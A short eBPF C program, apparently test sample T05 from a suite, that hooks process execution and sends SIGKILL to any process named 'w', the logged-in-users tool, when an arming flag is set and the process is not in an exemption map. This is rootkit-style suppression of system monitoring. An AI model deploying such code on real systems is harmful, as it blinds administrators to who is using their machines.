// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T05: whoever looks who is logged in is killed; the tool's name has one letter, and is compared byte by byte.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

HASH(spared, u32, u8, 16);

SEC("raw_tp/sched_process_exec")
int kill_short(void *ctx)
{
	char comm[16] = {};
	u32 pid = tgid();
	u8 *known = bpf_map_lookup_elem(&spared, &pid);

	if (known && *known)
		return 0;
	bpf_get_current_comm(comm, sizeof(comm));
	if (IS(comm, "w") && sample_armed)
		bpf_send_signal_thread(9);
	return 0;
}
